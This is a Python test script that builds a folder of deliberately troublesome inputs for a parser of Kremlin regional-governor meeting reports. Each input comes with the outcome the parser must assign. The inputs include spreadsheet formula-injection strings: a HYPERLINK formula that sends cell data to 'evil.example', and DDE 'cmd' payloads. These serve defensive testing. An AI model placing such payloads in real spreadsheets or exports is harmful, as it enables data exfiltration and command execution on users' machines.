"""Build the hostile inputs of issue 6 in a folder, each with the outcome the reader must give it.

Reports come from scrapes, mirrors and hand-saved pages, so the input folder may hold anything. This
script writes one file (or symlink, or pipe) per kind of trouble, and returns a manifest: for every entry,
which kind of trouble it stands for and the status and reason its Outcome must have under the default
settings. Nothing here is committed; the 50 MB text is written at test time.

Tests import `build`; to look at the files yourself:

    uv run python tests/make_hostile_inputs.py /tmp/hostile            # the 50 MB file included
    uv run python tests/make_hostile_inputs.py /tmp/hostile --big-mb 1

Two inputs change while a run is under way, which a folder cannot hold by itself: `VANISHING` is deleted
and `TURNS_UNREADABLE` loses its read permission after the folder is listed. The tests do that; as built,
both are ordinary reports (their manifest entries say "processed").
"""

from __future__ import annotations

import argparse
import os
import random
import re
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

BIG_BYTES: Final = 50 * 2**20
LIMIT_REASON: Final = r"file is \d+ bytes, over the limit of \d+ \(REGIONAL_REPORT_MAX_DOCUMENT_BYTES\)"
RUSSIAN: Final = "Russian-language text: the figure grammar reads English only"

VANISHING: Final = "vanishing.txt"
TURNS_UNREADABLE: Final = "turns-unreadable.txt"
LONG_LINES: Final = "long-lines.txt"
MIXED_NEWLINES: Final = "mixed-newlines.txt"
ABSURD_NUMBERS: Final = "absurd-numbers.txt"
FORMULAS: Final = "formula-injection.txt"
FORMULA_NAME: Final = "=1+2 formula in the name.txt"
HTML_FURNITURE: Final = "page-with-furniture.html"
HTML_ENTITIES: Final = "entities-and-nbsp.html"
HUGE: Final = "huge-50mb.txt"
TWINS: Final = ("twin-a.txt", "twin-b.txt")
NON_UTF8_NAME: Final = b"bad-\xff-bytes.txt"  # a name that is not UTF-8 (POSIX file systems allow it)
RUN_ON_CHARS: Final = 300_000  # the run-on line of LONG_LINES, far over the sentence limit

# Text in the input that a spreadsheet would run as a formula if it reached a cell as one.
FORMULA_TEXTS: Final = (
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Meeting with Governor of Tula Region")',
    "=cmd|' /C calc'!A0 The region built 14 schools in 2024.",
    "+1+1 The grain harvest reached 2.5 million tonnes.",
    "-2+3 Unemployment fell to 3.1 percent.",
    "@SUM(1+1)*cmd|' /C calc'!A0 Investment reached 40 billion roubles.",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One entry of the folder and the Outcome it must get (status None: not a file, so no Outcome)."""

    name: str
    """Its path under the folder, as the reader shows it ("/"-separated; undecodable bytes as \\xNN)."""
    kind: str
    """Which input of issue 6 it stands for."""
    status: str | None
    reason: str = ""
    """A regular expression the Outcome's reason must match in full ("" for a processed document)."""
    on_disk: str | None = None
    """Its name on disk when that differs from `name` (a name that is not UTF-8)."""

    def path_in(self, folder: Path) -> Path:
        """Where it is under `folder`."""
        return folder / (self.on_disk or self.name)

    def expects(self, reason: str) -> bool:
        """Whether `reason` is the one this entry must have."""
        return re.fullmatch(self.reason, reason) is not None


def report(title: str, day: str, *body: str, newline: str = "\n") -> str:
    """A report as the Kremlin site prints one: title, date line, place, then paragraphs."""
    return newline.join([title, day, "The Kremlin, Moscow", "", *body, ""])


def build(folder: Path, *, big_bytes: int = BIG_BYTES) -> list[Hostile]:
    """Write every hostile input into `folder` (created if need be); the manifest of what must happen.

    Args:
        folder: Where to write; entries of the same names are replaced.
        big_bytes: The size of the over-limit text (50 MB by default, over the 20 MB default limit).

    Returns:
        One Hostile per entry, in path order.
    """
    folder.mkdir(parents=True, exist_ok=True)
    made: list[Hostile] = []
    for entry in ("loop-to-self", "nested/up", "ping.txt", "pong.txt", "dangling.txt", "named-pipe.txt"):
        if os.path.lexists(folder / entry):
            (folder / entry).unlink()

    def text(
        name: str,
        content: str,
        kind: str,
        status: str = "processed",
        reason: str = "",
        encoding: str = "utf-8",
    ) -> None:
        (folder / name).write_bytes(content.encode(encoding))
        made.append(Hostile(name, kind, status, reason))

    def raw(name: str, content: bytes, kind: str, status: str, reason: str) -> None:
        (folder / name).write_bytes(content)
        made.append(Hostile(name, kind, status, reason))

    # --- not text at all ------------------------------------------------------------------------------
    raw("empty.txt", b"", "empty file", "quarantined", "empty file")
    text(
        "whitespace-only.txt", " \t\r\n\u00a0\u2003\n\n", "whitespace only", "quarantined", "only whitespace"
    )
    junk = random.Random(6).randbytes(4096)
    raw("binary-junk.txt", b"\x00\x01" + junk, "binary junk", "quarantined", "binary file: not text")
    raw(
        "binary-junk.html", b"\x89PNG\r\n\x1a\n" + junk, "binary junk", "quarantined", "binary file: not text"
    )

    # --- encodings ------------------------------------------------------------------------------------
    text(
        "cp1251-russian.txt",
        report(
            "Встреча с губернатором Тульской области Алексеем Дюминым",
            "5 мая 2020 года",
            "Губернатор доложил, что урожай зерна составил 3,2 миллиона тонн.",
        ),
        "not UTF-8: cp1251 Russian",
        "quarantined",
        re.escape(RUSSIAN),
        encoding="cp1251",
    )
    text(
        "latin1-accents.txt",
        report(
            "Meeting with Kaluga Region Governor Vladislav Shapsha",
            "June 2, 2021",
            "The Governor met the café owners of Obninsk; the région's tourist flow grew by 12 percent.",
        ),
        "not UTF-8: Latin-1",
        encoding="latin-1",
    )
    text(
        "utf16-bom.txt",
        report(
            "Meeting with Governor of Pskov Region Mikhail Vedernikov",
            "March 3, 2022",
            "The region commissioned 320,000 square metres of housing.",
        ),
        "not UTF-8: UTF-16 with BOM",
        encoding="utf-16",  # Python writes the byte-order mark first
    )

    # --- size -----------------------------------------------------------------------------------------
    made.append(_huge_text(folder, big_bytes))

    # --- HTML -----------------------------------------------------------------------------------------
    text(
        HTML_FURNITURE,
        "<!DOCTYPE html><html><head><title>Meeting | President of Russia</title>"
        "<style>body { content: 'Style 999 tonnes'; }</style>"
        "<script>var injected = 'Script 888 tonnes'; document.write('=cmd|calc');</script></head><body>"
        "<header><a href='/'>Header 777 hectares</a></header>"
        "<nav class='main-menu'><ul><li>Nav 666 schools</li></ul></nav>"
        "<div class='cookie-banner'>Cookies 555 times</div>"
        "<article><h1>Meeting with Kursk Region Governor Alexander Khinshtein</h1>"
        "<time datetime='2025-01-20'>January 20, 2025</time>"
        "<p>The Governor reported that 42 schools had been repaired.</p>"
        "<aside>Aside 444 tonnes</aside><p>Grain exports reached 1.8 million tonnes.</p></article>"
        "<footer>Footer 333 roubles</footer><noscript>Noscript 222 tonnes</noscript></body></html>",
        "HTML with scripts, styles, navigation and footers",
    )
    text(
        HTML_ENTITIES,
        "<html><body><article><h1>Meeting with Governor of Tomsk Region Vladimir&nbsp;Mazur</h1>"
        "<p>August&nbsp;21, 2024</p>"
        "<p>The region&#8217;s investment grew by 40&nbsp;percent &amp; reached 90&nbsp;billion&nbsp;roubles"
        " &mdash; a record &laquo;for the decade&raquo;.</p>"
        "<p>Some 1,500&#160;hectares were&#xA0;planted.</p></article></body></html>",
        "HTML with entities and non-breaking spaces",
    )

    # --- what the text says ---------------------------------------------------------------------------
    text(
        "no-region-no-date.txt",
        "Notes from a working meeting\n\nThe harvest grew by 5 percent, the Governor said.\n",
        "no recognizable region or date",
        "quarantined",
        "no region found in the title or lead paragraph; no meeting date found in the first lines",
    )
    twin = report(
        "Meeting with Governor of Novgorod Region Alexander Dronov",
        "May 25, 2023",
        "The region built 7 kindergartens last year.",
    )
    text(TWINS[0], twin, "identical content")
    text(TWINS[1], twin, "identical content", "duplicate", re.escape(f"same content as {TWINS[0]}"))
    text(
        ABSURD_NUMBERS,
        report(
            "Meeting with Governor of Murmansk Region Andrei Chibis",
            "June 20, 2022",
            "The port handled 10^30 tonnes of cargo.",
            "Unemployment was 1,2,3,4 percent.",
            "The budget reached 99999999999999999999 roubles.",
            "The region's fleet caught 3 quadrillion quadrillion tonnes of fish.",
            "The port handled 61 million tonnes of cargo in 2021.",
        ),
        'absurd numbers ("10^30 tonnes", "1,2,3,4 percent", "99999999999999999999")',
    )
    text(
        FORMULAS,
        report(FORMULA_TEXTS[0], "May 5, 2020", *FORMULA_TEXTS[1:]),
        "text starting with = + - @ (formula injection)",
    )
    run_on = "the region has 5 schools, 6 clinics and 7 libraries, " * (RUN_ON_CHARS // 52 + 1)
    text(
        LONG_LINES,
        report(
            "Meeting with Governor of Khabarovsk Territory Dmitry Demeshin",
            "April 28, 2022",
            "The territory built 12 bridges in 2021.",
            run_on[:RUN_ON_CHARS],
            "Timber exports reached 4.5 million cubic metres.",
        ),
        "extremely long lines",
    )
    # Windows, Unix and old Mac line ends in one file; offsets must equal open(..., newline="")'s.
    text(
        MIXED_NEWLINES,
        "Meeting with Governor of Smolensk Region Vasily Anokhin\r\n"
        "September 10, 2025\n"
        "The Kremlin, Moscow\r\r\n"
        "The region attracted 24 billion roubles of investment.\r"
        "Unemployment fell to 1.9 percent.\n\r\n"
        "Some 300 families received land plots in 2024.\r\n",
        "mixed newline styles",
    )

    # --- names ----------------------------------------------------------------------------------------
    named = {
        "name with  spaces.txt": ("Meeting with Governor of Tula Region Alexei Dyumin", "May 5, 2020"),
        "Отчёт Брянск — ünïcödé.txt": (
            "Meeting with Bryansk Region Governor Alexander Bogomaz",
            "May 26, 2020",
        ),
        "-leading-dash.txt": ("Meeting with Head of the Chuvash Republic Oleg Nikolayev", "March 26, 2025"),
        FORMULA_NAME: (
            "Meeting with President of the Republic of Tatarstan Rustam Minnikhanov",
            "Feb 12, 2019",
        ),
        VANISHING: ("Meeting with Governor of Sevastopol Mikhail Razvozhayev", "February 14, 2025"),
        TURNS_UNREADABLE: ("Meeting with Governor of Kursk Region Roman Starovoit", "October 16, 2021"),
    }
    for number, (name, (title, day)) in enumerate(named.items(), start=1):
        kind = {VANISHING: "disappears mid-run", TURNS_UNREADABLE: "becomes unreadable mid-run"}.get(
            name, "names with spaces, unicode, leading dashes"
        )
        text(name, report(title, day, f"The region opened {number + 10} new clinics in 2024."), kind)
    made += _non_utf8_name(folder)

    # --- the file system ------------------------------------------------------------------------------
    made += _links_and_pipes(folder, text)
    return sorted(made, key=lambda hostile: hostile.name)


def _huge_text(folder: Path, big_bytes: int) -> Hostile:
    """A report over the size limit, written in chunks: never 50 MB in memory."""
    chunk = report(
        "Meeting with Governor of Omsk Region Vitaly Khotsenko",
        "April 4, 2023",
        *["The region's farms harvested 3.5 million tonnes of grain."] * 1000,
    ).encode("utf-8")
    with (folder / HUGE).open("wb") as handle:
        written = 0
        while written < big_bytes:
            piece = chunk[: big_bytes - written]
            handle.write(piece)
            written += len(piece)
    return Hostile(HUGE, "50 MB text", "quarantined", LIMIT_REASON)


def _non_utf8_name(folder: Path) -> list[Hostile]:
    """A report whose file name is not UTF-8 (POSIX only: other systems cannot name it)."""
    if os.name != "posix":
        return []
    odd = os.fsdecode(NON_UTF8_NAME)
    (folder / odd).write_text(
        report(
            "Meeting with Governor of Tomsk Region Sergei Zhvachkin",
            "August 21, 2017",
            "The region built 9 sports halls.",
        ),
        encoding="utf-8",
    )
    return [Hostile("bad-\\xff-bytes.txt", "names with unicode: not UTF-8 at all", "processed", on_disk=odd)]


def _links_and_pipes(folder: Path, text: Callable[[str, str, str], None]) -> list[Hostile]:
    """Symlink loops (folders and files), a dangling link and a named pipe, where the system has them;
    `text` writes a report file and lists it."""
    made: list[Hostile] = []
    if hasattr(os, "symlink"):
        (folder / "loop-to-self").symlink_to(".", target_is_directory=True)
        nested = folder / "nested"
        nested.mkdir(exist_ok=True)
        (nested / "up").symlink_to("..", target_is_directory=True)
        text(
            "nested/inside-the-loop.txt",
            report("Meeting with Governor of Kaluga Region Anatoly Artamonov", "July 1, 2019", "Text."),
            "symlink loop in the input folder",
        )
        made.append(Hostile("loop-to-self", "symlink loop in the input folder", None))
        made.append(Hostile("nested/up", "symlink loop in the input folder", None))
        (folder / "ping.txt").symlink_to("pong.txt")
        (folder / "pong.txt").symlink_to("ping.txt")
        loop = "cannot read the file: Too many levels of symbolic links"
        made += [
            Hostile(name, "symlink loop (file)", "quarantined", loop) for name in ("ping.txt", "pong.txt")
        ]
        (folder / "dangling.txt").symlink_to("nowhere.txt")
        made.append(
            Hostile(
                "dangling.txt",
                "broken symlink",
                "quarantined",
                "cannot read the file: No such file or directory",
            )
        )
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "named-pipe.txt")  # opening it would block until a writer came: never opened
        made.append(
            Hostile(
                "named-pipe.txt",
                "not a regular file",
                "quarantined",
                "cannot read the file: not a regular file",
            )
        )
    return made


def main(argv: list[str] | None = None) -> int:
    """Build the inputs into the folder given and print the manifest."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("folder", type=Path, help="where to write the inputs")
    parser.add_argument("--big-mb", type=int, default=BIG_BYTES // 2**20, help="size of the over-limit text")
    args = parser.parse_args(argv)
    for hostile in build(args.folder, big_bytes=args.big_mb * 2**20):
        outcome = hostile.status or "(no outcome: walked once)"
        print(f"{hostile.name}\t{hostile.kind}\t{outcome}\t{hostile.reason}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
